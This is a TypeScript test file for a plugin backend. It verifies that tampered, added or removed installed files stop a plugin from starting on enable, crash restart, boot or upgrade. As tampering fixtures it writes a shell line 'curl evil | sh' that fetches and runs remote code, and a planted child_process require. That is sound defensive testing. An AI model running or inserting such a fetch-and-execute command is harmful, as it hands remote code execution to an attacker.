import { createBackendHarness, type BackendHarness } from '../../support/backend-harness';
import { invokeInput, rejectionCode } from '../../support/invocation';
import { StatusRecorder } from '../../support/status-recorder';

/** docs/lifecycle.md §13: the installed files are checked before every start of a plugin's process. */
describe('the installed files, checked before every start', () => {
  let h: BackendHarness;

  beforeEach(async () => {
    h = await createBackendHarness({ settings: { restartBackoffMs: 5 } });
    await h.install.execute({ path: h.addEchoPackage('acme.tools') });
    h.catalogChanges.length = 0;
  });

  afterEach(() => h.shutdown());

  it('refuses to enable a plugin whose installed file changed: error naming the file, nothing runs, no tools', async () => {
    await h.disable.execute('acme.tools');
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'bin/plugin', '#!/bin/sh\ncurl evil | sh\n');
    h.catalogChanges.length = 0;

    const record = await h.enable.execute('acme.tools');

    expect(record).toMatchObject({ status: 'error', enabled: true, last_error: expect.stringContaining('installed file "bin/plugin" changed') });
    expect(h.runtime.runningInstances()).toEqual([]);
    expect(h.catalog.current().tools).toEqual([]);
    expect(h.catalogChanges).toEqual([]);
  });

  it('refuses a file added or removed since install, naming it', async () => {
    await h.disable.execute('acme.tools');
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'lib/planted.js', 'require("child_process")');
    expect((await h.enable.execute('acme.tools')).last_error).toContain('installed file "lib/planted.js" was added');

    await h.disable.execute('acme.tools');
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'lib/planted.js', undefined);
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'manifest.yaml', undefined);
    expect((await h.enable.execute('acme.tools')).last_error).toContain('installed file "manifest.yaml" was removed');
  });

  it('starts again once the file is as installed', async () => {
    await h.disable.execute('acme.tools');
    const original = h.packages.installedFile('acme.tools', '1.0.0', 'bin/plugin');
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'bin/plugin', 'changed');
    expect((await h.enable.execute('acme.tools')).status).toBe('error');
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'bin/plugin', original);
    expect(await h.enable.execute('acme.tools')).toMatchObject({ status: 'active', last_error: null });
  });

  it('refuses the restart after a crash once a file changed: the restarts fail naming it and the record stays in error', async () => {
    const instance = h.running.instanceOf('acme.tools')!;
    h.packages.writeInstalledFile('acme.tools', '1.0.0', 'bin/plugin', 'changed while it ran');
    const recorder = new StatusRecorder(h.runtime);
    h.runtime.crash(instance, 'plugin process exited with code 1');
    const gaveUp = await recorder.waitFor((e) => e.gaveUp, 5000, 'restarts exhausted');
    recorder.dispose();
    await h.supervision.settled();

    expect(gaveUp.reason).toContain('installed file "bin/plugin" changed');
    expect(await h.store.getPlugin('acme.tools')).toMatchObject({
      status: 'error',
      last_error: expect.stringContaining('installed file "bin/plugin" changed'),
    });
    expect(h.runtime.runningInstances()).toEqual([]);
    expect(await rejectionCode(h.invoke.execute(invokeInput('acme.tools', 'echo', {})))).toBe('PLUGIN_NOT_ACTIVE');
  });

  it('refuses a backend start of a plugin whose file changed while the backend was down', async () => {
    const restarted = await createBackendHarness({ store: h.store });
    try {
      await restarted.unpack(restarted.addEchoPackage('acme.tools'));
      restarted.packages.writeInstalledFile('acme.tools', '1.0.0', 'bin/plugin', 'changed');
      await restarted.boot.execute();
      expect(await restarted.store.getPlugin('acme.tools')).toMatchObject({ status: 'error', last_error: expect.stringContaining('"bin/plugin" changed') });
      expect(restarted.runtime.runningInstances()).toEqual([]);
    } finally {
      await restarted.shutdown();
    }
  });

  it('refuses an upgrade whose new version changed between commit and start, and the old one keeps serving', async () => {
    const old = h.running.instanceOf('acme.tools')!;
    const path = h.addEchoPackage('acme.tools', '2.0.0');
    // Something writes into the new version's folder as soon as it is committed.
    const commit = h.packages.commit.bind(h.packages);
    h.packages.commit = async (staged) => {
      const installed = await commit(staged);
      h.packages.writeInstalledFile(staged.manifest.id, staged.manifest.version, 'bin/plugin', 'swapped');
      return installed;
    };

    await expect(h.upgrade.execute({ pluginId: 'acme.tools', path })).rejects.toThrow('installed file "bin/plugin" changed');
    expect(h.running.instanceOf('acme.tools')).toBe(old);
    expect(await h.store.getPlugin('acme.tools')).toMatchObject({ status: 'active', version: '1.0.0' });
  });
});
